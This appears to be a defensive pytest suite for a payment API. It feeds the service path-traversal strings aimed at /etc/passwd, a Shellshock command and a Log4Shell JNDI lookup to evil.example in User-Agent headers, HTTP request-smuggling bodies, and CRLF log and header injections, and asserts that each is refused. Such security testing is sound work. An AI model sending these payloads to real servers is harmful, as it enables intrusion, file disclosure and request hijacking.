"""Attacks with the request itself: paths, methods, headers, two requests in one, and words for the log.

What no client would send is written to the socket by hand. The fixture `assault` holds after every one that nothing has
changed and that nothing was told.
"""

import io
import json
import logging

import pytest

from service.logs import configure_logs

pytestmark = pytest.mark.asyncio(loop_scope="session")

BODY = b'{"amount":5,"currency":"EUR","payment_method":"pm_card_visa"}'


def raw(*headers, method="GET", path="/v1/payments", body=b"", version="1.1", key="pk_other"):
    """Write a request by hand."""
    lines = [f"{method} {path} HTTP/{version}", "Host: service", f"Authorization: Bearer {key}", *headers, "", ""]
    return "\r\n".join(lines).encode("latin-1") + body


def statuses(heard):
    return [int(line.split()[1]) for line in heard.split(b"\r\n") if line.startswith(b"HTTP/1.")]


PATHS = {
    "The metrics by their name.": "/metrics",
    "The metrics behind a second slash.": "//metrics",
    "The metrics with a slash at the end.": "/metrics/",
    "The metrics by an escape.": "/%6detrics",
    "The metrics by an escape of an escape.": "/%256detrics",
    "The metrics by way of the payments.": "/v1/payments/../../metrics",
    "The metrics by way of encoded dots and slashes.": "/v1/payments/%2e%2e%2f%2e%2e%2fmetrics",
    "The metrics behind a semicolon.": "/v1/..;/metrics",
    "The metrics at another address, as proxies are asked.": "http://service/metrics",
    "The metrics in capital letters.": "/METRICS",
    "The metrics behind a NUL.": "/metrics%00",
    "The metrics behind a line end.": "/metrics%0a",
    "The payments behind a second slash.": "//v1//payments",
    "The payments with a slash at the end.": "/v1/payments/",
    "The payments in a backslash.": "/v1%5cpayments",
    "A file of this machine.": "/../../../../etc/passwd",
    "A file of this machine in escapes.": "/%2e%2e/%2e%2e/etc/passwd",
    "A file of the program.": "/service/settings.py",
    "A page of documentation that runs other people's scripts.": "/docs",
    "A file of problems.": "/problems/..%2f..%2fetc%2fpasswd",
    "The control of somebody else's framework.": "/actuator/env",
}


@pytest.mark.parametrize("story", PATHS)
async def test_no_way_leads_around_the_routes(assault, story):
    heard = await assault.write(raw("Connection: close", path=PATHS[story]))

    assert statuses(heard) in ([404], [400])
    assert b"paystorm_" not in heard


METRICS_GUESSES = {
    "Nothing.": [],
    "The key of a merchant.": ["Bearer pk_shop"],
    "The token cut short.": ["Bearer token-of-the-metric"],
    "The token without a scheme.": ["token-of-the-metrics"],
    "The token in capital letters.": ["Bearer TOKEN-OF-THE-METRICS"],
    "The token behind another one.": ["Bearer x", "Bearer token-of-the-metrics"],
    "The token twice.": ["Bearer token-of-the-metrics"] * 2,
    "The token as a password.": ["Basic dG9rZW4tb2YtdGhlLW1ldHJpY3M6"],
    "Bytes that are no text.": [b"Bearer \xff\xfe"],
}


@pytest.mark.parametrize("story", METRICS_GUESSES)
async def test_who_has_not_the_token_reads_no_metrics(assault, story):
    del assault.client.headers["Authorization"]

    answer = await assault.ask("GET", "/metrics", headers=[("Authorization", one) for one in METRICS_GUESSES[story]])

    assert answer.status_code == 404


async def test_another_method_reads_no_metrics_either(assault):
    """A guard that looks at GET alone."""
    assert (await assault.ask("POST", "/metrics")).status_code == 405


# What proxies, frameworks and caches are told by headers; none of it is meant for us.
HEADERS = {
    "Another method, in a header.": [("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "POST")],
    "Another address, in a header.": [("X-Original-URL", "/metrics"), ("X-Rewrite-URL", "/metrics")],
    "Coming from this machine, it says.": [("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1")],
    "Coming from this machine, in the new way.": [("Forwarded", "for=127.0.0.1;host=localhost;proto=https")],
    "Another host.": [("Host", "evil.example"), ("X-Forwarded-Host", "evil.example")],
    "Another scheme, and a prefix.": [("X-Forwarded-Proto", "https"), ("X-Forwarded-Prefix", "/evil")],
    "A page of somebody else asks.": [("Origin", "https://evil.example"), ("Referer", "https://evil.example/")],
    "A program in place of a name.": [("User-Agent", "() { :;}; /bin/cat /etc/passwd")],
    "A look-up in place of a name.": [("User-Agent", "${jndi:ldap://evil.example/a}")],
    "A part of the answer.": [("Range", "bytes=0-10,0-10,0-10")],
    "An upgrade of the connection.": [("Upgrade", "h2c"), ("Connection", "Upgrade, HTTP2-Settings")],
    "A tracing parent from nowhere.": [("traceparent", "00-" + "0" * 32 + "-" + "0" * 16 + "-00")],
}


@pytest.mark.parametrize("story", HEADERS)
async def test_no_header_changes_what_is_asked(assault, target, story):
    answer = await assault.ask("GET", f"/v1/payments/{target.paid['id']}", headers=HEADERS[story])
    metrics = await assault.ask("GET", "/metrics", headers=HEADERS[story])

    assert (answer.status_code, metrics.status_code) == (404, 404)
    assert "evil" not in answer.text + str(answer.headers)
    assert "Access-Control-Allow-Origin" not in answer.headers


async def test_a_page_of_somebody_else_is_not_let_in(assault):
    """A browser asks before it sends a body of JSON to another site; without a yes it does not."""
    headers = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}

    answer = await assault.ask("OPTIONS", "/v1/payments", headers=headers)

    assert (answer.status_code, answer.headers["Allow"]) == (204, "GET, HEAD, OPTIONS, POST")
    assert [name for name in answer.headers if name.startswith("access-control")] == []


@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND", "DELETE", "PUT", "PATCH", "get", "BREW"])
async def test_no_other_method_does_anything(assault, method):
    """TRACE would show a browser its own secrets; the others are what frameworks offer without being asked."""
    heard = await assault.write(raw("Connection: close", method=method))

    assert statuses(heard) in ([405], [400])
    assert b"pk_other" not in heard


INNER = b"POST /v1/payments HTTP/1.1\r\nHost: x\r\n\r\n"
CHUNKED = b"0\r\n\r\n"

# Two readers in a row that do not agree where a request ends: what one takes for a body, the other takes for a request
# of whoever comes next. All of them are refused.
SMUGGLED = {
    "Both lengths; the first reader counts, the second reads chunks.": raw(
        f"Content-Length: {len(CHUNKED + INNER)}", "Transfer-Encoding: chunked", method="POST", body=CHUNKED + INNER
    ),
    "Both lengths; the first reader reads chunks, the second counts.": raw(
        "Transfer-Encoding: chunked", "Content-Length: 4", method="POST", body=b"2a\r\n" + INNER + b"\r\n0\r\n\r\n"
    ),
    "Two different lengths.": raw("Content-Length: 0", f"Content-Length: {len(INNER)}", method="POST", body=INNER),
    "Two lengths in one.": raw(f"Content-Length: 0, {len(INNER)}", method="POST", body=INNER),
    "A length with a sign.": raw(f"Content-Length: +{len(INNER)}", method="POST", body=INNER),
    "A length with a blank in it.": raw("Content-Length: 4 2", method="POST", body=INNER),
    "A length in hexadecimal digits.": raw("Content-Length: 0x2a", method="POST", body=INNER),
    "A negative length.": raw("Content-Length: -1", method="POST", body=INNER),
    "A length of no number.": raw("Content-Length: many", method="POST", body=INNER),
    "A blank before the colon.": raw("Transfer-Encoding : chunked", "Content-Length: 0", method="POST", body=INNER),
    "An encoding behind a vertical tabulator.": raw(
        "Transfer-Encoding: \x0bchunked", method="POST", body=CHUNKED + INNER
    ),
    "An encoding that is none.": raw("Transfer-Encoding: xchunked", method="POST", body=CHUNKED + INNER),
    "An encoding that is not the last one.": raw("Transfer-Encoding: chunked, identity", method="POST", body=INNER),
    "An encoding in a folded line.": raw("Transfer-Encoding:", " chunked", method="POST", body=CHUNKED + INNER),
    "A header folded below another one.": raw("X: y", " Content-Length: 4", "Content-Length: x", method="POST"),
    "A chunk of a size that is no number.": raw("Transfer-Encoding: chunked", method="POST", body=b"zz\r\n" + INNER),
    "A chunk of a size beyond 64 bits.": raw(
        "Transfer-Encoding: chunked", method="POST", body=b"ffffffffffffffffff\r\n" + INNER
    ),
    "A chunk of a negative size.": raw("Transfer-Encoding: chunked", method="POST", body=b"-1\r\n" + INNER),
    "A line end within a header.": raw("X: a\rContent-Length: 4", method="POST", body=INNER),
    "A NUL within a header.": raw("X: a\0b", method="POST", body=INNER),
    "A header without a name.": raw(": x", method="POST", body=INNER),
    "A header without a colon.": raw("Content-Length 42", method="POST", body=INNER),
    "Two versions in one line.": raw(path="/v1/payments HTTP/1.1", version="1.0"),
    "A version that will be.": raw(version="9.9"),
    "The first request of another protocol.": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "TLS where none is spoken.": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 64,
}


@pytest.mark.parametrize("story", SMUGGLED)
async def test_no_request_hides_in_another(assault, story):
    heard = await assault.write(SMUGGLED[story] + b"\r\n")

    assert statuses(heard) in ([400], []), heard
    assert b" 202 " not in heard


async def test_a_body_is_not_a_second_request(assault):
    """A request within the body of another, rightly counted: it is the body, and its payment is never made."""
    hidden = raw("Idempotency-Key: hidden", f"Content-Length: {len(BODY)}", method="POST", body=BODY)
    heard = await assault.write(
        raw(f"Content-Length: {len(hidden)}", "Connection: close", method="GET", body=hidden),
    )

    assert statuses(heard) == [200]


IDEMPOTENCY_KEYS = {
    "Two keys.": ["Idempotency-Key: a", "Idempotency-Key: b"],
    "The same key twice.": ["Idempotency-Key: a", "Idempotency-Key: a"],
    "A key of nothing.": ["Idempotency-Key:"],
    "A quoted key of nothing.": ['Idempotency-Key: ""'],
    "A key without end.": ["Idempotency-Key: " + "a" * 256],
    "A key of letters that look alike.": ["Idempotency-Key: k\xe4y"],
    "A key that ends in a blank of another kind.": ["Idempotency-Key: a\xa0"],
    "A key with a tabulator.": ["Idempotency-Key: a\tb"],
    "A key with an escape of the terminal.": ["Idempotency-Key: \x1b[2J"],
}


@pytest.mark.parametrize("story", IDEMPOTENCY_KEYS)
async def test_a_key_of_two_meanings_is_refused(assault, story):
    headers = [*IDEMPOTENCY_KEYS[story], "Content-Type: application/json", f"Content-Length: {len(BODY)}"]

    heard = await assault.write(raw(*headers, "Connection: close", method="POST", body=BODY))

    assert statuses(heard) == [400]


async def test_headers_that_are_too_large(assault):
    """A megabyte of headers, a little at a time."""
    heard = await assault.write(raw(*[f"X-{number}: {'x' * 1_000}" for number in range(40)], "Connection: close"))

    assert statuses(heard) == [431]


@pytest.fixture(params=["json", "text"])
def log(request):
    """All that the service logs, as it is written in both forms."""
    root = logging.getLogger()
    kept = root.handlers[:], root.level
    configure_logs(request.param)
    stream = io.StringIO()
    root.handlers[0].setStream(stream)
    yield stream, request.param
    root.handlers[:], level = kept
    root.setLevel(level)


LOG_WORDS = {
    "A line of the log, as a payment's id.": "/v1/payments/x%0d%0alevel=error%20FORGED",
    "An escape of the terminal, as a payment's id.": "/v1/payments/x%1b%5b2JFORGED",
    "A line separator, as a refund's id.": "/v1/payments/pay_1/refunds/x%e2%80%a8FORGED",
    "A member of JSON, as a payment's id.": "/v1/payments/x%22%2c%22level%22%3a%22FORGED",
    "A line of the log, as a path of nothing.": "/nowhere%0aFORGED",
    "A line of the log, in a query.": "/v1/payments?order_id=%0aFORGED",
}


@pytest.mark.parametrize("story", LOG_WORDS)
async def test_no_word_of_the_clients_makes_a_line_of_the_log(assault, log, story):
    stream, log_format = log

    await assault.ask("GET", LOG_WORDS[story], headers={"X-Request-Id": "FORGED id"})
    await assault.write(raw("X-Request-Id: a", "X-Request-Id: FORGED", "Connection: close", path="/v1/payments/pay_1"))

    lines = stream.getvalue().splitlines()
    assert len(lines) == 2
    assert "FORGED" not in stream.getvalue()
    assert "\x1b[2J" not in stream.getvalue()
    if log_format == "json":
        assert all("request_id" in json.loads(line) for line in lines)


async def test_a_request_id_that_splits_the_answer(assault):
    """A line end in what we send back would begin a header, or an answer, of the attacker's."""
    heard = await assault.write(raw("X-Request-Id: a%0d%0aSet-Cookie: x=1", "Connection: close"))

    assert b"set-cookie" not in heard.lower()
    assert b"x-request-id: req_" in heard.lower()


async def test_answers_say_neither_what_answers_nor_that_they_may_be_kept(assault):
    """What a scanner looks for first, and what a shared cache would hand to the next one."""
    answers = [
        await assault.ask("GET", "/v1/payments"),
        await assault.ask("GET", "/nowhere"),
        await assault.ask("GET", "/openapi.json"),
    ]

    assert {answer.headers.get("Server") for answer in answers} == {None}
    assert {answer.headers["Cache-Control"] for answer in answers} == {"no-store"}
    assert {answer.headers["X-Content-Type-Options"] for answer in answers} == {"nosniff"}
